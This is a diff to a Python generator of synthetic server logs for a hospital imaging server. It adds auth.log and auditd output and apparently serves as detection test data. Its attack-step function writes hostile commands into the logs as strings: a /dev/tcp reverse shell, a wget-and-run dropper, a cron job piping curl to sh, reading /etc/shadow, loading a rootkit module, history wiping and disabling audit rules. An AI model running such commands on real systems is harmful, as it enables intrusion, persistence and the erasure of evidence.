@@ -7,6 +7,17 @@
       sudo abuse, new accounts, cron/systemd persistence, log wiping, firewall off, reverse shells).
   gen_mixed.py access OUT LINES [--seed N]   nginx "combined" access log of a patient/staff portal,
       with about 2% scanners, path traversal, SQL injection, web shells and cmd.exe worm probes.
+  gen_mixed.py auth OUT LINES [--seed N]     /var/log/auth.log of the same (internal, firewalled)
+      server: staff SSH sessions, sudo, cron and systemd-logind PAM sessions, with about 2% attack
+      lines (SSH guessing from a compromised workstation or the VPN, sudo abuse, new accounts).
+      ../shared/bench/gen_authlog.py is the attack-heavy counterpart (an internet-facing sshd).
+  gen_mixed.py audit OUT LINES [--seed N]    /var/log/audit/audit.log (auditd, log_format ENRICHED,
+      x86_64, execve audited as the ANSSI/CIS rules do): SYSCALL/EXECVE/CWD/PATH/PROCTITLE/EOE
+      groups of monitoring checks, cron jobs, systemd services, PostgreSQL archiving and admin
+      shells; the PAM records of cron, ssh and sudo; SERVICE_START/STOP; chronyd's adjtimex; about
+      0.3% of the groups are attack steps (useradd, insmod, reverse shell, chmod u+s, cat
+      /etc/shadow, download and run from /tmp, ...). Serials and timestamps increase; values are
+      hex-encoded as auditd does (spaces, quotes, control bytes; proctitle with NUL separators).
 
 Python 3 standard library only. The same arguments always give the same bytes. Prints a JSON
 summary (lines, bytes, attack lines per kind) on stdout.
@@ -21,7 +32,7 @@ T0 = calendar.timegm((2026, 11, 22, 0, 0, 0, 0, 0, 0))
 HOST = "pacs01"
 
 ap = argparse.ArgumentParser(description=__doc__, formatter_class=argparse.RawDescriptionHelpFormatter)
-ap.add_argument("kind", choices=("syslog", "access"))
+ap.add_argument("kind", choices=("syslog", "access", "auth", "audit"))
 ap.add_argument("out")
 ap.add_argument("lines", type=int)
 ap.add_argument("--seed", type=int, default=7)
@@ -238,33 +249,58 @@ def attack_lines(out, stats):
         out.append(("sudo", None, pre + f"/usr/bin/cp /tmp/{hexs(6)}.service /etc/systemd/system/"))
 
 
-def gen_syslog(f, n):
+def syslog_group(t, grp, stats):
+    r = R.random()
+    if r < 0.14:
+        ssh_session(grp)
+    elif r < 0.20:
+        sudo_normal(grp)
+    elif r < 0.36:
+        cron_normal(grp)
+    elif r < 0.48:
+        systemd_normal(grp)
+    elif r < 0.66:
+        grp.append(kernel_line(t))
+    elif r < 0.76:
+        postfix_lines(grp)
+    elif r < 0.987:
+        grp.append(misc_line())
+    else:
+        attack_lines(grp, stats)
+
+
+def auth_group(t, grp, stats):
+    """auth.log: the authpriv/auth part of the same server's day (PAM, sshd, sudo, logind)."""
+    r = R.random()
+    if r < 0.22:
+        ssh_session(grp)
+        del grp[3]  # systemd's "Started session-N.scope" goes to syslog
+    elif r < 0.40:
+        sudo_normal(grp)
+    elif r < 0.97:
+        # cron's PAM session lines go to auth.log; its CMD line goes to syslog
+        cron_normal(grp)
+        del grp[1]
+    elif r < 0.988:
+        u = R.choice(STAFF)
+        grp.append(("systemd-logind", 701, R.choice([f"Session {R.randint(100, 99999)} logged out. Waiting for processes to exit.",
+                                                     "Watching system buttons on /dev/input/event0 (Power Button)",
+                                                     f"New session c{R.randint(1, 99)} of user {u}."])))
+    else:
+        attack_lines(grp, stats)
+
+
+def gen_syslog(f, n, group=syslog_group, rate=4.0):
     stats = {"ssh_guess": 0, "ssh_noise": 0, "host_attack": 0}
-    clock = Clock(rate=4.0)
+    clock = Clock(rate)
     written = 0
     nbytes = 0
     buf = []
     last_s, ts = None, ""
     while written < n:
         t = clock.tick()
-        r = R.random()
         grp = []
-        if r < 0.14:
-            ssh_session(grp)
-        elif r < 0.20:
-            sudo_normal(grp)
-        elif r < 0.36:
-            cron_normal(grp)
-        elif r < 0.48:
-            systemd_normal(grp)
-        elif r < 0.66:
-            grp.append(kernel_line(t))
-        elif r < 0.76:
-            postfix_lines(grp)
-        elif r < 0.987:
-            grp.append(misc_line())
-        else:
-            attack_lines(grp, stats)
+        group(t, grp, stats)
         s = int(t)
         if s != last_s:
             ts = time.strftime("%b %d %H:%M:%S", time.gmtime(s))
@@ -282,6 +318,10 @@ def gen_syslog(f, n):
             buf.clear()
     f.write("".join(buf))
     return dict(stats, lines=written, bytes=nbytes)
+
+
+def gen_auth(f, n):
+    return gen_syslog(f, n, auth_group, rate=0.5)  # 150k lines span about a day
 
 
 # ---------------------------------------------------------------------------- access
@@ -365,7 +405,299 @@ def gen_access(f, n):
     return dict(stats, lines=n, bytes=nbytes)
 
 
+# ---------------------------------------------------------------------------- audit
+GS = "\x1d"
+UNSET = 4294967295
+AU_NAMES = {0: "root", 33: "www-data", 113: "postgres", 114: "orthanc", 117: "nagios", UNSET: "unset"}
+AU_NAMES.update({uid: u for u, uid in UIDS.items()})
+
+
+def au_arg(v):
+    """auditd's encoding of an untrusted string: "text" when plain, else uppercase hex."""
+    if any(c in v for c in ' "\'') or any(ord(c) < 0x21 or ord(c) > 0x7e for c in v):
+        return v.encode().hex().upper()
+    return f'"{v}"'
+
+
+def au_name(uid):
+    return AU_NAMES.get(uid, f"unknown({uid})")
+
+
+class Audit:
+    """Audit events: one serial each, increasing, the time from a monotonic clock."""
+
+    def __init__(self, rate):
+        self.clock = Clock(rate)
+        self.serial = R.randint(100000, 900000)
+        self.ses = 1000
+        self.lines = []
+
+    def hdr(self):
+        self.serial += 1
+        t = self.clock.tick()
+        return f"msg=audit({int(t)}.{int(t * 1000) % 1000:03d}:{self.serial}):"
+
+    def execve(self, pid, ppid, exe, argv, cwd, uid=0, auid=UNSET, ses=UNSET, tty="(none)", key="exec",
+               comm=None):
+        h = self.hdr()
+        comm = comm or exe.rsplit("/", 1)[1][:15]
+        ids = " ".join(f"{k}={uid}" for k in ("uid", "gid", "euid", "suid", "fsuid", "egid", "sgid", "fsgid"))
+        names = " ".join(f'{k}="{au_name(uid)}"' for k in ("UID", "GID", "EUID", "SUID", "FSUID", "EGID", "SGID", "FSGID"))
+        a = (f"{R.randint(0x55d000000000, 0x55dfffffffff):x}", f"{R.randint(0x55d000000000, 0x55dfffffffff):x}",
+             f"{R.randint(0x7ff000000000, 0x7fffffffffff):x}")
+        self.lines += [
+            f"type=SYSCALL {h} arch=c000003e syscall=59 success=yes exit=0 a0={a[0]} a1={a[1]} a2={a[2]} a3=8 "
+            f"items=2 ppid={ppid} pid={pid} auid={auid} {ids} tty={tty} ses={ses} comm={au_arg(comm)} "
+            f'exe={au_arg(exe)} subj=unconfined key="{key}"{GS}ARCH=x86_64 SYSCALL=execve AUID="{au_name(auid)}" {names}',
+            f"type=EXECVE {h} argc={len(argv)} " + " ".join(f"a{i}={au_arg(v)}" for i, v in enumerate(argv)),
+            f"type=CWD {h} cwd={au_arg(cwd)}",
+            f"type=PATH {h} item=0 name={au_arg(exe)} inode={R.randint(1000, 3000000)} dev=08:01 mode=0100755 "
+            f"ouid=0 ogid=0 rdev=00:00 nametype=NORMAL cap_fp=0 cap_fi=0 cap_fe=0 cap_fver=0 cap_frootid=0"
+            f'{GS}OUID="root" OGID="root"',
+            f'type=PATH {h} item=1 name="/lib64/ld-linux-x86-64.so.2" inode=1311 dev=08:01 mode=0100755 ouid=0 '
+            f'ogid=0 rdev=00:00 nametype=NORMAL cap_fp=0 cap_fi=0 cap_fe=0 cap_fver=0 cap_frootid=0{GS}OUID="root" OGID="root"',
+            f"type=PROCTITLE {h} proctitle={au_arg(chr(0).join(argv)[:128])}",  # the kernel keeps 128 bytes
+            f"type=EOE {h}",
+        ]
+
+    def syscall(self, pid, ppid, exe, sysno, sysname, key, uid=0, auid=UNSET, ses=UNSET, path=None, proctitle=None,
+                a0="0"):
+        h = self.hdr()
+        comm = exe.rsplit("/", 1)[1][:15]
+        self.lines.append(
+            f"type=SYSCALL {h} arch=c000003e syscall={sysno} success=yes exit=0 a0={a0} a1=0 a2=0 a3=0 "
+            f"items={1 if path else 0} ppid={ppid} pid={pid} auid={auid} uid={uid} gid={uid} euid={uid} suid={uid} "
+            f'fsuid={uid} egid={uid} sgid={uid} fsgid={uid} tty=(none) ses={ses} comm="{comm}" exe="{exe}" '
+            f'subj=unconfined key="{key}"{GS}ARCH=x86_64 SYSCALL={sysname} AUID="{au_name(auid)}" UID="{au_name(uid)}" '
+            f'GID="{au_name(uid)}" EUID="{au_name(uid)}" SUID="{au_name(uid)}" FSUID="{au_name(uid)}" '
+            f'EGID="{au_name(uid)}" SGID="{au_name(uid)}" FSGID="{au_name(uid)}"')
+        if path:
+            self.lines.append(f"type=CWD {h} cwd=\"/\"")
+            self.lines.append(
+                f'type=PATH {h} item=0 name="{path}" inode={R.randint(1000, 3000000)} dev=08:01 mode=0100640 ouid=0 '
+                f'ogid=42 rdev=00:00 nametype=NORMAL cap_fp=0 cap_fi=0 cap_fe=0 cap_fver=0 cap_frootid=0'
+                f'{GS}OUID="root" OGID="shadow"')
+        self.lines.append(f"type=PROCTITLE {h} proctitle={au_arg(chr(0).join(proctitle or [exe]))}")
+        self.lines.append(f"type=EOE {h}")
+
+    def user(self, typ, pid, uid, auid, ses, inner, enriched=None):
+        h = self.hdr()
+        enr = enriched or f'UID="{au_name(uid)}" AUID="{au_name(auid)}"'
+        self.lines.append(f"type={typ} {h} pid={pid} uid={uid} auid={auid} ses={ses} subj=unconfined msg='{inner}'{GS}{enr}")
+
+    def login(self, pid, auid, ses):
+        h = self.hdr()
+        self.lines.append(f"type=LOGIN {h} pid={pid} uid=0 subj=unconfined old-auid={UNSET} auid={auid} tty=(none) "
+                          f'old-ses={UNSET} ses={ses} res=1{GS}UID="root" OLD-AUID="unset" AUID="{au_name(auid)}"')
+
+    def pam(self, typ, op, pid, auid, ses, acct, exe, grantors, terminal, addr="?", res="success"):
+        self.user(typ, pid, 0, auid, ses, f'op=PAM:{op} grantors={grantors} acct="{acct}" exe="{exe}" hostname={addr} '
+                  f'addr={addr} terminal={terminal} res={res}')
+
+    def service(self, typ, unit):
+        self.user(typ, 1, 0, UNSET, UNSET, f'unit={unit} comm="systemd" exe="/usr/lib/systemd/systemd" hostname=? '
+                  f"addr=? terminal=? res=success")
+
+
+MON_CHECKS = [["/usr/lib/nagios/plugins/check_disk", "-w", "20%", "-c", "10%", "-p", "/"],
+              ["/usr/lib/nagios/plugins/check_load", "-r", "-w", "4,3,2", "-c", "8,6,4"],
+              ["/usr/lib/nagios/plugins/check_procs", "-C", "Orthanc", "-c", "1:1"],
+              ["/usr/lib/nagios/plugins/check_swap", "-w", "30%", "-c", "10%"],
+              ["/usr/lib/nagios/plugins/check_http", "-H", "localhost", "-u", "/health", "-p", "8042"],
+              ["/usr/lib/nagios/plugins/check_pgsql", "-H", "127.0.0.1", "-d", "orthanc"],
+              ["/usr/lib/nagios/plugins/check_ntp_time", "-H", "ntp1.chu-exemple.fr"]]
+AU_CRON = [  # (user, uid, sh -c command, [argv of the commands it runs])
+    ("root", 0, "command -v debian-sa1 > /dev/null && debian-sa1 1 1",
+     [["/usr/lib/sysstat/debian-sa1", "1", "1"], ["/usr/lib/sysstat/sa1", "1", "1"],
+      ["/usr/lib/sysstat/sadc", "-F", "-L", "-S", "DISK", "1", "1", "/var/log/sysstat"]]),
+    ("root", 0, "cd / && run-parts --report /etc/cron.hourly", [["/usr/bin/run-parts", "--report", "/etc/cron.hourly"]]),
+    ("postgres", 113, "/usr/local/bin/pg_backup_incremental.sh >/dev/null 2>&1",
+     [["/usr/bin/bash", "/usr/local/bin/pg_backup_incremental.sh"], ["/usr/bin/date", "+%Y%m%d"],
+      ["/usr/bin/pg_basebackup", "-D", "/srv/backup/pg/incr", "-Ft", "-z", "-X", "fetch"], ["/usr/bin/find", "/srv/backup/pg", "-mtime", "+14", "-delete"]]),
+    ("orthanc", 114, "/opt/orthanc/bin/purge-old-studies --days 30 >/dev/null 2>&1",
+     [["/usr/bin/python3", "/opt/orthanc/bin/purge-old-studies", "--days", "30"]]),
+]
+AU_SERVICES = [("sysstat-collect", ["/usr/lib/sysstat/debian-sa1", "1", "1"]),
+               ("logrotate", ["/usr/sbin/logrotate", "/etc/logrotate.conf"]),
+               ("man-db", ["/usr/bin/mandb", "--quiet"]),
+               ("apt-daily", ["/usr/lib/apt/apt.systemd.daily", "update"]),
+               ("certbot", ["/usr/bin/certbot", "-q", "renew", "--no-random-sleep-on-renew"]),
+               ("systemd-tmpfiles-clean", ["/usr/bin/systemd-tmpfiles", "--clean"]),
+               ("phpsessionclean", ["/usr/lib/php/sessionclean"])]
+ADMIN_CMDS = [["ls", "-la"], ["ps", "aux"], ["systemctl", "status", "orthanc"], ["journalctl", "-u", "orthanc", "-n", "200"],
+              ["tail", "-f", "/var/log/orthanc/Orthanc.log"], ["df", "-h"], ["grep", "-i", "error", "/var/log/orthanc/Orthanc.log"],
+              ["vim", "/etc/orthanc/orthanc.json"], ["python3", "/opt/scripts/check_pacs.py", "--verbose"], ["free", "-m"],
+              ["less", "/var/log/syslog"], ["cat", "/etc/orthanc/orthanc.json"], ["du", "-sh", "/srv/orthanc/db"],
+              ["top", "-b", "-n", "1"], ["uptime"], ["id"], ["ss", "-tlnp"], ["ip", "a"]]
+BINDIR = {"ls": "/usr/bin", "ps": "/usr/bin", "systemctl": "/usr/bin", "journalctl": "/usr/bin", "tail": "/usr/bin",
+          "df": "/usr/bin", "grep": "/usr/bin", "vim": "/usr/bin", "python3": "/usr/bin", "free": "/usr/bin",
+          "less": "/usr/bin", "cat": "/usr/bin", "du": "/usr/bin", "top": "/usr/bin", "uptime": "/usr/bin",
+          "id": "/usr/bin", "ss": "/usr/bin", "ip": "/usr/sbin", "sudo": "/usr/bin"}
+
+
+def au_monitoring(A):
+    ppid = 1180  # nagios-nrpe-server
+    c = R.choice(MON_CHECKS)
+    A.execve(newpid(), ppid, c[0], c, "/", uid=117)
+
+
+def au_cron(A):
+    u, uid, cmd, runs = R.choice(AU_CRON)
+    A.ses += 1
+    cpid = newpid()
+    g = "pam_env,pam_env,pam_permit,pam_unix,pam_limits"
+    A.pam("USER_ACCT", "accounting", cpid, UNSET, UNSET, u, "/usr/sbin/cron", "pam_permit", "cron")
+    A.pam("CRED_ACQ", "setcred", cpid, UNSET, UNSET, u, "/usr/sbin/cron", "pam_permit", "cron")
+    A.login(cpid, uid, A.ses)
+    A.pam("USER_START", "session_open", cpid, uid, A.ses, u, "/usr/sbin/cron", "pam_loginuid," + g, "cron")
+    sh = newpid()
+    A.execve(sh, cpid, "/usr/bin/dash", ["/bin/sh", "-c", cmd], "/" if u == "root" else f"/var/lib/{u}", uid=uid,
+             auid=uid, ses=A.ses, comm="sh")
+    for argv in runs:
+        A.execve(newpid(), sh, argv[0], argv, "/", uid=uid, auid=uid, ses=A.ses)
+    A.pam("CRED_DISP", "setcred", cpid, uid, A.ses, u, "/usr/sbin/cron", "pam_permit", "cron")
+    A.pam("USER_END", "session_close", cpid, uid, A.ses, u, "/usr/sbin/cron", "pam_loginuid," + g, "cron")
+
+
+def au_service(A):
+    unit, argv = R.choice(AU_SERVICES)
+    A.service("SERVICE_START", unit)
+    A.execve(newpid(), 1, argv[0], argv, "/")
+    A.service("SERVICE_STOP", unit)
+
+
+def au_postgres(A):
+    seg = f"0000000100000{R.randint(10, 99)}000000{hexs(2).upper()}"
+    sh = newpid()
+    A.execve(sh, 1320, "/usr/bin/dash", ["sh", "-c", f"test ! -f /srv/wal_archive/{seg} && cp pg_wal/{seg} /srv/wal_archive/{seg}"],
+             "/var/lib/postgresql/15/main", uid=113, comm="sh")
+    A.execve(newpid(), sh, "/usr/bin/cp", ["cp", f"pg_wal/{seg}", f"/srv/wal_archive/{seg}"], "/var/lib/postgresql/15/main", uid=113)
+
+
+def au_chrony(A):
+    A.syscall(655, 1, "/usr/sbin/chronyd", 159, "adjtimex", "time-change", uid=0, proctitle=["/usr/sbin/chronyd", "-F", "1"],
+              a0=f"{R.randint(0x7ff000000000, 0x7fffffffffff):x}")
+
+
+def au_admin(A):
+    u = R.choice(STAFF[:6])
+    uid = UIDS[u]
+    ip = R.choice(INTERNAL)
+    A.ses += 1
+    spid = newpid()
+    A.user("USER_AUTH", spid, 0, UNSET, UNSET, f'op=pubkey_auth grantors=auth-key acct="{u}" exe="/usr/sbin/sshd" '
+           f"hostname=? addr={ip} terminal=ssh res=success")
+    A.pam("USER_ACCT", "accounting", spid, UNSET, UNSET, u, "/usr/sbin/sshd", "pam_permit", "ssh", ip)
+    A.pam("CRED_ACQ", "setcred", spid, UNSET, UNSET, u, "/usr/sbin/sshd", "pam_permit", "ssh", ip)
+    A.login(spid, uid, A.ses)
+    A.pam("USER_START", "session_open", spid, uid, A.ses, u, "/usr/sbin/sshd",
+          "pam_loginuid,pam_keyinit,pam_env,pam_env,pam_permit,pam_unix,pam_limits", "ssh", ip)
+    A.user("USER_LOGIN", spid, 0, uid, A.ses, f'op=login id={uid} exe="/usr/sbin/sshd" hostname=? addr={ip} '
+           f"terminal=/dev/pts/{R.randint(0, 5)} res=success")
+    bash = newpid()
+    tty = f"pts{R.randint(0, 5)}"
+    A.execve(bash, spid, "/usr/bin/bash", ["-bash"], f"/home/{u}", uid=uid, auid=uid, ses=A.ses, tty=tty)
+    for _ in range(R.randint(2, 9)):
+        argv = R.choice(ADMIN_CMDS)
+        if R.random() < 0.3:
+            argv = ["sudo"] + argv
+            A.user("USER_CMD", newpid(), uid, uid, A.ses, f'cwd="/home/{u}" cmd={au_arg(" ".join(argv[1:]))} '
+                   f'exe="/usr/bin/sudo" terminal={tty.replace("pts", "pts/")} res=success')
+        A.execve(newpid(), bash, BINDIR[argv[0]] + "/" + argv[0], argv, f"/home/{u}", uid=0 if argv[0] == "sudo" else uid,
+                 auid=uid, ses=A.ses, tty=tty)
+    A.pam("USER_END", "session_close", spid, uid, A.ses, u, "/usr/sbin/sshd",
+          "pam_loginuid,pam_keyinit,pam_env,pam_env,pam_permit,pam_unix,pam_limits", "ssh", ip)
+
+
+def au_attack(A, stats):
+    """One attack step by a web shell (www-data) or a stolen admin account turned root."""
+    ip = pub_ip()
+    k = R.randrange(10)
+    stats[["useradd", "insmod", "revshell", "suid", "shadow", "dropper", "ssh_guess", "history", "cron", "auditctl"][k]] += 1
+    web = R.random() < 0.5
+    uid, auid, ses = (33, UNSET, UNSET) if web else (0, UIDS["lpetit"], A.ses)
+    par = 801 if web else newpid()
+    cwd = "/var/www/portal" if web else "/tmp"
+    if k == 0:
+        n = f"svc{hexs(3)}"
+        A.execve(newpid(), par, "/usr/sbin/useradd", ["useradd", "-m", "-s", "/bin/bash", n], cwd, uid=0, auid=auid, ses=ses)
+        A.user("ADD_USER", newpid(), 0, auid, ses, f'op=add-user acct="{n}" exe="/usr/sbin/useradd" hostname={HOST} addr=? '
+               f"terminal=pts/1 res=success")
+    elif k == 1:
+        A.execve(newpid(), par, "/usr/bin/kmod", ["insmod", f"/tmp/.{hexs(4)}/rk.ko"], cwd, uid=0, auid=auid, ses=ses, comm="insmod")
+        A.syscall(newpid(), par, "/usr/bin/kmod", 313, "finit_module", "modules", auid=auid, ses=ses,
+                  proctitle=["insmod", "/tmp/rk.ko"], a0="3")
+    elif k == 2:
+        sh = newpid()
+        A.execve(sh, par, "/usr/bin/bash", ["bash", "-c", f"bash -i >& /dev/tcp/{ip}/4444 0>&1"], cwd, uid=uid, auid=auid, ses=ses)
+        A.execve(newpid(), sh, "/usr/bin/whoami", ["whoami"], cwd, uid=uid, auid=auid, ses=ses)
+    elif k == 3:
+        A.execve(newpid(), par, "/usr/bin/chmod", ["chmod", "u+s", "/tmp/.x/bash"], cwd, uid=0, auid=auid, ses=ses)
+    elif k == 4:
+        p = newpid()
+        A.execve(p, par, "/usr/bin/cat", ["cat", "/etc/shadow"], cwd, uid=0, auid=auid, ses=ses)
+        A.syscall(p, par, "/usr/bin/cat", 257, "openat", "shadow", auid=auid, ses=ses, path="/etc/shadow",
+                  proctitle=["cat", "/etc/shadow"], a0="ffffff9c")
+    elif k == 5:
+        f = f"/tmp/.{hexs(6)}"
+        A.execve(newpid(), par, "/usr/bin/wget", ["wget", "-q", f"http://{ip}/x86_64", "-O", f], cwd, uid=uid, auid=auid, ses=ses)
+        A.execve(newpid(), par, "/usr/bin/chmod", ["chmod", "+x", f], cwd, uid=uid, auid=auid, ses=ses)
+        A.execve(newpid(), par, f, [f], cwd, uid=uid, auid=auid, ses=ses)
+    elif k == 6:
+        u = R.choice(BAD_USERS)
+        p = newpid()
+        A.user("USER_AUTH", p, 0, UNSET, UNSET, f'op=PAM:authentication grantors=? acct="{u}" exe="/usr/sbin/sshd" '
+               f"hostname={ip} addr={ip} terminal=ssh res=failed")
+        A.user("USER_LOGIN", p, 0, UNSET, UNSET, f'op=login acct="{u}" exe="/usr/sbin/sshd" hostname=? addr={ip} '
+               f"terminal=sshd res=failed")
+    elif k == 7:
+        A.execve(newpid(), par, "/usr/bin/bash", ["bash", "-c", "history -c; rm -f ~/.bash_history; unset HISTFILE"], cwd,
+                 uid=uid, auid=auid, ses=ses)
+    elif k == 8:
+        A.execve(newpid(), par, "/usr/bin/bash", ["bash", "-c", f"(crontab -l; echo '* * * * * curl -s http://{ip}/s | sh') | crontab -"],
+                 cwd, uid=uid, auid=auid, ses=ses)
+    else:
+        A.execve(newpid(), par, "/usr/sbin/auditctl", ["auditctl", "-D"], cwd, uid=0, auid=auid, ses=ses)
+        A.service("SERVICE_STOP", "auditd")
+
+
+def gen_audit(f, n):
+    stats = {k: 0 for k in ("useradd", "insmod", "revshell", "suid", "shadow", "dropper", "ssh_guess", "history", "cron",
+                            "auditctl")}
+    A = Audit(rate=0.55)  # 200k lines (about 45k events) span a day
+    written = 0
+    nbytes = 0
+    while written < n:
+        r = R.random()
+        if r < 0.36:
+            au_monitoring(A)
+        elif r < 0.52:
+            au_cron(A)
+        elif r < 0.60:
+            au_service(A)
+        elif r < 0.74:
+            au_postgres(A)
+        elif r < 0.92:
+            au_chrony(A)
+        elif r < 0.997:
+            if R.random() < 0.25:
+                au_admin(A)
+            else:
+                au_monitoring(A)
+        else:
+            au_attack(A, stats)
+        take = A.lines[: n - written]
+        chunk = "".join(line + "\n" for line in take)
+        f.write(chunk)
+        nbytes += len(chunk.encode())
+        written += len(take)
+        A.lines.clear()
+    return dict(stats, lines=written, bytes=nbytes)
+
+
+GENERATORS = {"syslog": lambda f, n: gen_syslog(f, n), "access": lambda f, n: gen_access(f, n),
+              "auth": lambda f, n: gen_auth(f, n), "audit": lambda f, n: gen_audit(f, n)}
 with open(a.out, "w", encoding="utf-8", newline="\n") as fh:
-    summary = gen_syslog(fh, a.lines) if a.kind == "syslog" else gen_access(fh, a.lines)
+    summary = GENERATORS[a.kind](fh, a.lines)
 summary.update(kind=a.kind, seed=a.seed)
 print(json.dumps(summary))
